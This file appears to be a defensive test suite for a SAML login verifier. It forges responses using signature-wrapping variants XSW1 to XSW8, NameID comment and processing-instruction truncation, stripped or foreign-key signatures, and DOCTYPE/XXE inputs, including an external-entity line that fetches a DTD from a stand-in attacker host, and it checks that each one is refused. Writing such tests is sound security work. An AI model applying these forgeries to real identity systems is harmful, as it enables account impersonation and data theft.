/**
 * The attack literature against SAML SPs, one test per attack, each built from a response that
 * a real key signed (test/support/saml-signer.ts, never the code under test) and then rearranged
 * the way the attack does it. Each test fails if the attack response is accepted.
 *
 * Already covered in verify-refusals.test.ts (not repeated here), by test name:
 *   XXE / entity expansion ........ "DOCTYPE (XXE, billion laughs) is refused"
 *   oversized / malformed ......... "input over the size bound is refused before base64 decoding", "not base64 / not XML"
 *   non-Success with signed assertion "non-Success status, with or without an assertion"
 *   unsigned / only Response signed "unsigned is refused; only the Response signed is refused only when the account requires signed assertions"
 *   two assertions ................ "two assertions (one unsigned) are refused"
 *   certificate in KeyInfo ........ "signed by a key that is not configured (certificate in KeyInfo)", "KeyInfo names a certificate that is not configured…"
 *   wrong Destination / Recipient / Issuer / Audience: one test each
 *   expired / not yet valid ....... "expired (NotOnOrAfter is exclusive…)", "bearer confirmation expiring before Conditions is enforced", "not yet valid"
 *   InResponseTo .................. "unknown InResponseTo, and a request ID is good for one response only", "InResponseTo is read from the signed assertion…", "unsolicited response…"
 *   replay (one process) .......... "replay of the same assertion" (two instances on PostgreSQL: test/sso/lifecycle.test.ts)
 *   SHA-1 only when allowed ....... "SHA-1 only when the account allows it"
 *   outer signature broken ........ test/sso/fixtures-acs.test.ts (Okta fixture), and again below from a signed response
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { SamlFailureCode } from "../../src/sso/saml/failures.js";
import { verifySamlResponse, type VerifyInput, type VerifyResult } from "../../src/sso/saml/verify.js";
import { testKeys } from "../support/saml-fixtures.js";
import { buildAssertion, buildResponse, encryptAssertion, signAssertion, signResponse, toBase64, type ResponseSpec, type SignOptions } from "../support/saml-signer.js";
import { toolSkip, xmlsecVerifies } from "../support/xml-tools.js";

const NOW = new Date("2030-01-01T10:00:00.000Z");
const minutes = (n: number) => new Date(NOW.getTime() + n * 60_000);
const SP = { entityId: "https://blanca.test/sso/acme/metadata", acsUrl: "https://blanca.test/sso/acme/acs" };
const IDP_ENTITY = "https://sts.windows.net/11111111-2222-3333-4444-555555555555/";
const signA: SignOptions = { key: testKeys.idpA.key, cert: testKeys.idpA.cert };
const VICTIM = "adam@example.test";
const ATTACKER_CHOICE = "admin@example.test";

function spec(overrides: Partial<ResponseSpec> = {}): ResponseSpec {
  return {
    issuer: IDP_ENTITY,
    destination: SP.acsUrl,
    recipient: SP.acsUrl,
    audiences: [SP.entityId],
    inResponseTo: "_req1",
    issueInstant: NOW,
    notBefore: minutes(-5),
    notOnOrAfter: minutes(60),
    nameId: VICTIM,
    ...overrides,
  };
}

/** What the IdP sent: assertion signed (Entra default), optionally the Response too. */
function signedAssertionXml(overrides: Partial<ResponseSpec> = {}): string {
  return signAssertion(buildAssertion(spec(overrides)), signA);
}
function genuine(overrides: Partial<ResponseSpec> = {}): string {
  return buildResponse(spec(overrides), signedAssertionXml(overrides));
}
function genuineBothSigned(): string {
  return signResponse(genuine(), signA);
}

function input(xml: string, overrides: Partial<VerifyInput> = {}): VerifyInput {
  const requests = new Set(["_req1"]);
  const seen = new Set<string>();
  return {
    samlResponse: toBase64(xml),
    sp: SP,
    idp: { entityId: IDP_ENTITY, ssoUrl: "https://login.example.test/saml2", certificates: [testKeys.idpA.cert], allowSha1: false },
    now: NOW,
    allowIdpInitiated: false,
    requestIdStore: { take: async (id: string) => requests.delete(id) },
    replayCache: { remember: async (id: string) => (seen.has(id) ? false : (seen.add(id), true)) },
    ...overrides,
  };
}

/** The one element `<Signature …>…</Signature>` of a signed element (xml-crypto writes no prefix). */
function signatureOf(xml: string): string {
  const match = /<Signature[\s\S]*?<\/Signature>/.exec(xml);
  assert.ok(match, "no Signature in the signed XML");
  return match[0];
}
function withoutSignature(xml: string): string {
  return xml.replace(signatureOf(xml), "");
}
/** The attacker's assertion: the victim's signed assertion with another identity, signature kept or not. */
function forgedFrom(signedAssertion: string, keepSignature: boolean, id?: string): string {
  let forged = signedAssertion.replace(`>${VICTIM}<`, `>${ATTACKER_CHOICE}<`);
  if (!keepSignature) forged = withoutSignature(forged);
  if (id) forged = forged.replace(/ID="_a1"/, `ID="${id}"`);
  return forged;
}

/** The exact failure code, and optionally what the SSO log says: each refusal names what really failed. */
function assertFails(result: VerifyResult, code: SamlFailureCode, reason?: RegExp): void {
  assert.equal(result.ok, false, `the attack was accepted: signed in as ${result.ok ? result.login.nameId : ""}`);
  if (result.ok) return;
  assert.equal(result.code, code, `expected ${code}, got ${result.code}: ${result.reason}`);
  if (reason) assert.match(result.reason, reason);
}

function assertRefused(result: VerifyResult, allowed: SamlFailureCode[]): void {
  assert.equal(result.ok, false, `the attack was accepted: signed in as ${result.ok ? result.login.nameId : ""}`);
  if (result.ok) return;
  assert.ok(allowed.includes(result.code), `expected one of ${allowed.join(", ")}, got ${result.code}: ${result.reason}`);
}

describe("the genuine response is accepted (so each refusal below is the attack's doing)", () => {
  test("assertion signed", async () => {
    const result = await verifySamlResponse(input(genuine()));
    assert.ok(result.ok, result.ok ? "" : `${result.code}: ${result.reason}`);
    assert.equal(result.login.nameId, VICTIM);
  });
  test("Response and assertion signed", async () => {
    const result = await verifySamlResponse(input(genuineBothSigned()));
    assert.ok(result.ok, result.ok ? "" : `${result.code}: ${result.reason}`);
  });
  test("an independent verifier (xmlsec1) agrees that the genuine assertion's signature is good", { skip: toolSkip("xmlsec1") }, () => {
    assert.ok(xmlsecVerifies(genuine(), testKeys.idpA.cert, "urn:oasis:names:tc:SAML:2.0:assertion:Assertion"));
  });
});

// XML Signature Wrapping, the eight variants of SAML Raider (after Somorovsky et al., "On Breaking
// SAML: Be Whoever You Want to Be", USENIX Security 2012). XSW1-2 target the Response signature,
// XSW3-8 the assertion signature.
describe("XML signature wrapping (SAML Raider XSW1-XSW8)", () => {
  const SIG_OR_SHAPE: SamlFailureCode[] = ["signature_invalid", "signature_missing", "multiple_assertions", "malformed_message"];
  test("XSW1: forged Response at the root, the signed Response moved inside its Signature", async () => {
    const original = genuineBothSigned();
    const responseSignature = signatureOf(original.replace(signedAssertionXml(), ""));
    const forged = original
      .replace(signedAssertionXml(), forgedFrom(signedAssertionXml(), false))
      .replace('ID="_r1"', 'ID="_evil_r"')
      .replace(responseSignature, responseSignature.replace("</Signature>", `${original}</Signature>`));
    assertFails(await verifySamlResponse(input(forged)), "signature_wrapping", /covers #_r1, but the Response the SP reads has ID "_evil_r"/);
  });

  test("XSW2: forged Response at the root, the signed Response as a sibling before its Signature (detached)", async () => {
    const original = genuineBothSigned();
    const responseSignature = signatureOf(original.replace(signedAssertionXml(), ""));
    const forged = original
      .replace(signedAssertionXml(), forgedFrom(signedAssertionXml(), false))
      .replace('ID="_r1"', 'ID="_evil_r"')
      .replace(responseSignature, `${original}${responseSignature}`);
    assertFails(await verifySamlResponse(input(forged)), "signature_wrapping", /covers #_r1, but the Response the SP reads has ID "_evil_r"/);
  });

  // XSW1/XSW2 again, with the genuine signed assertion kept in the forged Response so that the
  // assertion check passes and only the Response signature stands between the attacker and a login
  // (the forged Response has a new ID and content the IdP never signed: a StatusMessage).
  test("XSW1 on the Response signature alone: forged Response (genuine signed assertion inside), signed original inside its Signature", async () => {
    const original = genuineBothSigned();
    const responseSignature = signatureOf(original.replace(signedAssertionXml(), ""));
    const forged = original
      .replace('ID="_r1"', 'ID="_evil_r"')
      .replace("</samlp:Status>", "<samlp:StatusMessage>forged</samlp:StatusMessage></samlp:Status>")
      .replace(responseSignature, responseSignature.replace("</Signature>", `${original}</Signature>`));
    assertFails(await verifySamlResponse(input(forged)), "signature_wrapping", /signed element sits at samlp:Response\/Signature\/samlp:Response/);
  });

  test("XSW2 on the Response signature alone: forged Response (genuine signed assertion inside), signed original as a sibling before its Signature", async () => {
    const original = genuineBothSigned();
    const responseSignature = signatureOf(original.replace(signedAssertionXml(), ""));
    const forged = original
      .replace('ID="_r1"', 'ID="_evil_r"')
      .replace("</samlp:Status>", "<samlp:StatusMessage>forged</samlp:StatusMessage></samlp:Status>")
      .replace(responseSignature, `${original}${responseSignature}`);
    assertFails(await verifySamlResponse(input(forged)), "signature_wrapping", /signed element sits at samlp:Response\/samlp:Response/);
  });

  test("XSW3: forged assertion (new ID, unsigned) inserted before the signed one", async () => {
    const signed = signedAssertionXml();
    const xml = genuine().replace(signed, forgedFrom(signed, false, "_evil") + signed);
    assertFails(await verifySamlResponse(input(xml)), "multiple_assertions");
  });

  test("XSW4: forged assertion with the signed one as its child", async () => {
    const signed = signedAssertionXml();
    const forged = forgedFrom(signed, false, "_evil").replace("</saml:Assertion>", `${signed}</saml:Assertion>`);
    // Once "neither is signed"; now the log names the wrapped assertion.
    assertFails(await verifySamlResponse(input(genuine().replace(signed, forged))), "signature_wrapping", /signed Assertion \(ID "_a1"\) sits at samlp:Response\/saml:Assertion\/saml:Assertion/);
  });

  test("XSW5: forged assertion keeps the signature, the original (unsigned) appended after it", async () => {
    const signed = signedAssertionXml();
    const xml = genuine().replace(signed, forgedFrom(signed, true, "_evil") + withoutSignature(signed));
    assertFails(await verifySamlResponse(input(xml)), "multiple_assertions");
  });

  test("XSW5 with the same ID: the forged assertion is the only one, carrying the original signature", async () => {
    const signed = signedAssertionXml();
    assertFails(await verifySamlResponse(input(genuine().replace(signed, forgedFrom(signed, true)))), "signature_invalid", /assertion's signature does not verify: the content it covers was changed/);
  });

  test("XSW6: forged assertion keeps the signature, the original assertion nested inside that Signature", async () => {
    const signed = signedAssertionXml();
    const signature = signatureOf(signed);
    const forged = forgedFrom(signed, true, "_evil").replace(signature, signature.replace("</Signature>", `${withoutSignature(signed)}</Signature>`));
    assertFails(await verifySamlResponse(input(genuine().replace(signed, forged))), "signature_wrapping", /covers #_a1, but the assertion the SP reads has ID "_evil"/);
  });

  test("XSW7: forged assertion (unsigned) in an Extensions element, the signed one left in place", async () => {
    const signed = signedAssertionXml();
    const xml = genuine().replace("<samlp:Status>", `<samlp:Extensions>${forgedFrom(signed, false, "_evil")}</samlp:Extensions><samlp:Status>`);
    const result = await verifySamlResponse(input(xml));
    // Blanca only reads the signed assertion, a direct child of the Response: accepting is safe
    // only if the identity is the victim's signed one, never the attacker's.
    if (result.ok) assert.equal(result.login.nameId, VICTIM, "the identity came from the unsigned copy");
    else assertRefused(result, SIG_OR_SHAPE);
  });

  test("XSW7 same ID: forged assertion in Extensions with the original's ID, the signed one in place", async () => {
    const signed = signedAssertionXml();
    const xml = genuine().replace("<samlp:Status>", `<samlp:Extensions>${forgedFrom(signed, false)}</samlp:Extensions><samlp:Status>`);
    assertFails(await verifySamlResponse(input(xml)), "signature_wrapping", /2 elements carry the ID "_a1"/);
  });

  test("XSW8: forged assertion keeps the signature, the original (unsigned) inside a ds:Object in it", async () => {
    const signed = signedAssertionXml();
    const signature = signatureOf(signed);
    const forged = forgedFrom(signed, true).replace(signature, signature.replace("</Signature>", `<Object>${withoutSignature(signed)}</Object></Signature>`));
    assertFails(await verifySamlResponse(input(genuine().replace(signed, forged))), "signature_wrapping", /2 elements carry the ID "_a1"/);
  });
});

// The same shapes when only the Response is signed (Entra's "Sign SAML response"): the assertion has
// no signature of its own, so the Response signature is all that stands between the attacker and a
// login. Each test asserts the exact code, and the reason names the tampering, not a configuration.
describe("XML signature wrapping under a Response-only signature (Entra \"Sign SAML response\")", () => {
  const plainAssertion = (overrides: Partial<ResponseSpec> = {}) => buildAssertion(spec(overrides));
  const responseOnly = (overrides: Partial<ResponseSpec> = {}) => signResponse(buildResponse(spec(overrides), plainAssertion(overrides)), signA);
  const responseSignatureOf = (xml: string) => signatureOf(xml);
  const forgedAssertion = (id?: string) => plainAssertion().replace(`>${VICTIM}<`, `>${ATTACKER_CHOICE}<`).replace(/ID="_a1"/, `ID="${id ?? "_a1"}"`);

  test("the genuine Response-only response is accepted, and the login says the Response was signed", async () => {
    const result = await verifySamlResponse(input(responseOnly()));
    assert.ok(result.ok, result.ok ? "" : `${result.code}: ${result.reason}`);
    assert.equal(result.login.nameId, VICTIM);
    assert.equal(result.login.signedBy, "response");
  });

  test("an independent verifier (xmlsec1) agrees that the genuine Response's signature is good", { skip: toolSkip("xmlsec1") }, () => {
    assert.ok(xmlsecVerifies(responseOnly(), testKeys.idpA.cert, "urn:oasis:names:tc:SAML:2.0:protocol:Response"));
  });

  test("Response and assertion signed: accepted, both recorded", async () => {
    const result = await verifySamlResponse(input(genuineBothSigned()));
    assert.ok(result.ok, result.ok ? "" : `${result.code}: ${result.reason}`);
    assert.equal(result.login.signedBy, "response and assertion");
  });

  test("NameID changed under the Response signature: signature_invalid, named as altered content", async () => {
    const xml = responseOnly().replace(`>${VICTIM}<`, `>${ATTACKER_CHOICE}<`);
    assertFails(await verifySamlResponse(input(xml)), "signature_invalid", /Response's signature does not verify: the content it covers was changed after the IdP signed it/);
  });

  test("NameID changed with both signed: signature_invalid", async () => {
    const xml = genuineBothSigned().replace(`>${VICTIM}<`, `>${ATTACKER_CHOICE}<`);
    assertFails(await verifySamlResponse(input(xml)), "signature_invalid", /content it covers was changed/);
  });

  test("the Response's signature verifies but the assertion's own does not: refused (every signature present must verify)", async () => {
    const tamperedAssertion = signedAssertionXml().replace(`>${VICTIM}<`, `>${ATTACKER_CHOICE}<`);
    const xml = signResponse(buildResponse(spec(), tamperedAssertion), signA);
    assertFails(await verifySamlResponse(input(xml)), "signature_invalid", /assertion's signature does not verify: the content it covers was changed/);
  });

  test("Response signature stripped: signature_missing (neither signed)", async () => {
    assertFails(await verifySamlResponse(input(withoutSignature(responseOnly()))), "signature_missing", /Neither the Response nor the assertion is signed/);
  });

  test("Response signed by a key that is not configured: certificate_not_configured", async () => {
    const xml = signResponse(buildResponse(spec(), plainAssertion()), { key: testKeys.idpB.key, cert: testKeys.idpB.cert });
    assertFails(await verifySamlResponse(input(xml)), "certificate_not_configured");
  });

  test("Response signed with another key and no KeyInfo: signature_invalid, named as another key", async () => {
    const xml = signResponse(buildResponse(spec(), plainAssertion()), { key: testKeys.idpB.key, cert: null });
    assertFails(await verifySamlResponse(input(xml)), "signature_invalid", /made with another key/);
  });

  test("XSW1: forged Response at the root, the signed original inside its Signature", async () => {
    const original = responseOnly();
    const signature = responseSignatureOf(original);
    const forged = original.replace(plainAssertion(), forgedAssertion()).replace('ID="_r1"', 'ID="_evil_r"').replace(signature, signature.replace("</Signature>", `${original}</Signature>`));
    assertFails(await verifySamlResponse(input(forged)), "signature_wrapping", /covers #_r1, but the Response the SP reads has ID "_evil_r".*samlp:Response\/Signature\/samlp:Response/);
  });

  test("XSW2: forged Response at the root, the signed original as a sibling before its Signature", async () => {
    const original = responseOnly();
    const signature = responseSignatureOf(original);
    const forged = original.replace(plainAssertion(), forgedAssertion()).replace('ID="_r1"', 'ID="_evil_r"').replace(signature, `${original}${signature}`);
    assertFails(await verifySamlResponse(input(forged)), "signature_wrapping", /covers #_r1, but the Response the SP reads has ID "_evil_r"/);
  });

  test("XSW3: forged assertion inserted before the original", async () => {
    const xml = responseOnly().replace(plainAssertion(), forgedAssertion("_evil") + plainAssertion());
    assertFails(await verifySamlResponse(input(xml)), "multiple_assertions");
  });

  test("XSW4 (nested wrapped assertion): forged assertion with the original as its child", async () => {
    const forged = forgedAssertion("_evil").replace("</saml:Assertion>", `${plainAssertion()}</saml:Assertion>`);
    const xml = responseOnly().replace(plainAssertion(), forged);
    assertFails(await verifySamlResponse(input(xml)), "signature_wrapping", /unsigned Assertion \(ID "_a1"\) sits at samlp:Response\/saml:Assertion\/saml:Assertion, besides the one the SP reads \(ID "_evil"\)/);
  });

  test("XSW5: the Response's signature moved into the forged assertion (the Response looks unsigned)", async () => {
    const original = responseOnly();
    const signature = responseSignatureOf(original);
    const forged = forgedAssertion().replace("</saml:Issuer>", `</saml:Issuer>${signature}`);
    const xml = original.replace(signature, "").replace(plainAssertion(), forged);
    assertFails(await verifySamlResponse(input(xml)), "signature_wrapping", /assertion's signature covers #_r1, but the assertion the SP reads has ID "_a1"/);
  });

  test("XSW6: forged assertion in place, the original nested inside the Response's Signature", async () => {
    const original = responseOnly();
    const signature = responseSignatureOf(original);
    const xml = original.replace(plainAssertion(), forgedAssertion()).replace(signature, signature.replace("</Signature>", `${plainAssertion()}</Signature>`));
    assertFails(await verifySamlResponse(input(xml)), "signature_wrapping", /sits at samlp:Response\/Signature\/saml:Assertion/);
  });

  test("XSW7: forged assertion in an Extensions element, the original left in place", async () => {
    const xml = responseOnly().replace("<samlp:Status>", `<samlp:Extensions>${forgedAssertion("_evil")}</samlp:Extensions><samlp:Status>`);
    assertFails(await verifySamlResponse(input(xml)), "signature_wrapping", /sits at samlp:Response\/samlp:Extensions\/saml:Assertion/);
  });

  test("XSW8: forged assertion in place, the original inside a ds:Object in the Response's Signature", async () => {
    const original = responseOnly();
    const signature = responseSignatureOf(original);
    const xml = original.replace(plainAssertion(), forgedAssertion()).replace(signature, signature.replace("</Signature>", `<Object>${plainAssertion()}</Object></Signature>`));
    assertFails(await verifySamlResponse(input(xml)), "signature_wrapping", /sits at samlp:Response\/Signature\/Object\/saml:Assertion/);
  });

  test("the account requires signed assertions: a genuine Response-only response is refused, naming the setting", async () => {
    const strict = input(responseOnly());
    strict.idp = { ...strict.idp, requireSignedAssertions: true };
    assertFails(await verifySamlResponse(strict), "signature_missing", /Only the Response is signed \(and its signature verifies\)/);
  });

  test("the account requires signed assertions: a tampered Response-only response names the tampering, not the setting", async () => {
    const strict = input(responseOnly().replace(`>${VICTIM}<`, `>${ATTACKER_CHOICE}<`));
    strict.idp = { ...strict.idp, requireSignedAssertions: true };
    assertFails(await verifySamlResponse(strict), "signature_invalid", /content it covers was changed/);
  });

  test("an encrypted, unsigned assertion inside a signed Response is decrypted and accepted", async () => {
    const encrypted = await encryptAssertion(plainAssertion(), testKeys.sp.cert);
    const xml = signResponse(buildResponse(spec(), encrypted), signA);
    const result = await verifySamlResponse(input(xml, { sp: { ...SP, privateKeyPem: testKeys.sp.key } }));
    assert.ok(result.ok, result.ok ? "" : `${result.code}: ${result.reason}`);
    assert.equal(result.login.nameId, VICTIM);
    assert.equal(result.login.signedBy, "response");
  });
});

describe("identity is read from the signed bytes, never cut short", () => {
  test("comment in the NameID (CVE-2017-11427) yields the whole signed NameID, not the part before the comment", async () => {
    const full = `${VICTIM}.evil.test`;
    const xml = genuine({ nameId: full }).replace(full, `${VICTIM}<!---->.evil.test`);
    const result = await verifySamlResponse(input(xml));
    if (result.ok) assert.equal(result.login.nameId, full);
    else assertRefused(result, ["signature_invalid"]);
  });

  test("non-empty comment in the NameID: the text on both sides is joined, the comment ignored", async () => {
    const full = `${VICTIM}.evil.test`;
    const xml = genuine({ nameId: full }).replace(full, `${VICTIM}<!--${VICTIM}-->.evil.test`);
    const result = await verifySamlResponse(input(xml));
    if (result.ok) assert.equal(result.login.nameId, full);
    else assertRefused(result, ["signature_invalid"]);
  });

  test("processing instruction in the NameID: refused (it changes the signed bytes) or read whole", async () => {
    const full = `${VICTIM}.evil.test`;
    const xml = genuine({ nameId: full }).replace(full, `${VICTIM}<?x y?>.evil.test`);
    const result = await verifySamlResponse(input(xml));
    if (result.ok) assert.equal(result.login.nameId, full);
    else assertRefused(result, ["signature_invalid"]);
  });

  test("processing instruction hiding the signed tail of the NameID is still read whole from the signed bytes", async () => {
    // xml-crypto's exclusive c14n writes a PI's data as text, so `adam@example.test<?x .evil.test?>`
    // digests like the signed `adam@example.test.evil.test` and the signature verifies. A reader of
    // the received DOM's text nodes would get `adam@example.test`; Blanca reads the signed bytes.
    const full = `${VICTIM}.evil.test`;
    const xml = genuine({ nameId: full }).replace(full, `${VICTIM}<?x .evil.test?>`);
    const result = await verifySamlResponse(input(xml));
    if (result.ok) assert.equal(result.login.nameId, full, "identity cut short at the processing instruction");
    else assertRefused(result, ["signature_invalid"]);
  });

  test("processing instruction with no data in the NameID is refused or read whole", async () => {
    const full = `${VICTIM}.evil.test`;
    const xml = genuine({ nameId: full }).replace(full, `${VICTIM}<?x?>.evil.test`);
    const result = await verifySamlResponse(input(xml));
    if (result.ok) assert.equal(result.login.nameId, full);
    else assertRefused(result, ["signature_invalid"]);
  });
});

describe("signatures", () => {
  test("signature stripped from a signed response", async () => {
    assertRefused(await verifySamlResponse(input(withoutSignature(genuine()))), ["signature_missing"]);
  });

  test("both signatures stripped from a Response-and-assertion signed response", async () => {
    const both = genuineBothSigned();
    const stripped = withoutSignature(withoutSignature(both));
    assert.doesNotMatch(stripped, /<Signature/);
    assertRefused(await verifySamlResponse(input(stripped)), ["signature_missing"]);
  });

  test("SignatureValue emptied (signature present but blank)", async () => {
    const xml = genuine().replace(/<SignatureValue>[^<]*<\/SignatureValue>/, "<SignatureValue></SignatureValue>");
    assertRefused(await verifySamlResponse(input(xml)), ["signature_invalid", "malformed_message"]);
  });

  test("outer Response signature present but invalid while the assertion's verifies", async () => {
    // A StatusMessage added after signing is covered only by the Response signature.
    const xml = genuineBothSigned().replace("</samlp:Status>", "<samlp:StatusMessage>hi</samlp:StatusMessage></samlp:Status>");
    assert.notEqual(xml, genuineBothSigned());
    assertRefused(await verifySamlResponse(input(xml)), ["signature_invalid"]);
  });

  test("attacker's own certificate embedded in KeyInfo, response signed with the attacker's key", async () => {
    const attacker: SignOptions = { key: testKeys.idpB.key, cert: testKeys.idpB.cert };
    const xml = buildResponse(spec(), signAssertion(buildAssertion(spec({ nameId: ATTACKER_CHOICE })), attacker));
    assertRefused(await verifySamlResponse(input(xml)), ["certificate_not_configured"]);
  });

  test("two signatures on the assertion: the genuine one and a copy", async () => {
    const signed = signedAssertionXml();
    const signature = signatureOf(signed);
    const xml = genuine().replace(signature, signature + signature);
    assertRefused(await verifySamlResponse(input(xml)), ["signature_invalid"]);
  });
});

describe("times on the subject confirmation", () => {
  test("SubjectConfirmationData not yet valid (NotBefore in the future)", async () => {
    const s = spec();
    const assertion = signAssertion(buildAssertion(s).replace("<saml:SubjectConfirmationData ", `<saml:SubjectConfirmationData NotBefore="${minutes(10).toISOString()}" `), signA);
    assertRefused(await verifySamlResponse(input(buildResponse(s, assertion))), ["not_yet_valid"]);
  });
});

describe("DOCTYPE in any form", () => {
  test("DOCTYPE without an internal subset, in lower case, after a comment", async () => {
    const xml = `<!-- x --><!doctype samlp:Response>${genuine()}`;
    assertRefused(await verifySamlResponse(input(xml)), ["doctype_forbidden", "malformed_message"]);
  });

  test("external parameter entity (XXE out of band)", async () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.test/x.dtd"> %ext;]>${genuine()}`;
    assertRefused(await verifySamlResponse(input(xml)), ["doctype_forbidden"]);
  });

  test("a DOCTYPE in UTF-16 is still seen", async () => {
    const xml = `\uFEFF<!DOCTYPE r [<!ENTITY x "y">]>${genuine()}`;
    const utf16 = Buffer.from(xml, "utf16le").toString("base64");
    assertRefused(await verifySamlResponse({ ...input(""), samlResponse: utf16 }), ["doctype_forbidden", "malformed_message"]);
  });
});
